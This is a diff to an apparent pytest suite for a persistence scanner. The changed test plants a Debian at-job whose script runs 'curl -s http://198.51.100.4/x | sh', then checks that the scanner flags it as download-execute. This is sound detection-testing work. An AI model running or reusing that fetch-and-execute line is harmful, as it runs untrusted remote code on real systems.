@@ -391,14 +391,22 @@ def test_only_an_at_jobs_commands_are_commands(job, commands):
     assert got == (commands if commands is not None else [t for _n, t in numbered])
 
 
-def test_an_at_job_runs_its_script_as_a_payload_and_its_environment_is_no_command(base, rules):
-    plant(base, "/var/spool/cron/atjobs/a000010200aa00", DEBIAN_JOB, 0o700)
+@pytest.mark.parametrize(
+    "runs", ["/bin/sh /usr/local/lib/job.sh", "bash /usr/local/lib/job.sh", "/usr/local/lib/job.sh"]
+)
+def test_an_at_job_runs_its_script_as_a_payload_and_its_environment_is_no_command(base, rules, runs):
+    plant(
+        base,
+        "/var/spool/cron/atjobs/a000010200aa00",
+        DEBIAN_JOB.replace("/bin/sh /usr/local/lib/job.sh", runs),
+        0o700,
+    )
     plant(base, "/usr/local/lib/job.sh", "#!/bin/sh\ncurl -s http://198.51.100.4/x | sh\n", 0o755)
 
     result = persistence.scan(str(base), rules)
 
     at_items = [i for i in result.scanner.items if i.kind == "at" and i.line is not None]
-    assert [i.command for i in at_items] == ["/usr/bin/true", "/bin/sh /usr/local/lib/job.sh"]
+    assert [i.command for i in at_items] == ["/usr/bin/true", runs]
     assert _reasons(result, "download-execute") == [
         "payload /usr/local/lib/job.sh line 2: curl -s http://198.51.100.4/x | sh"
     ]
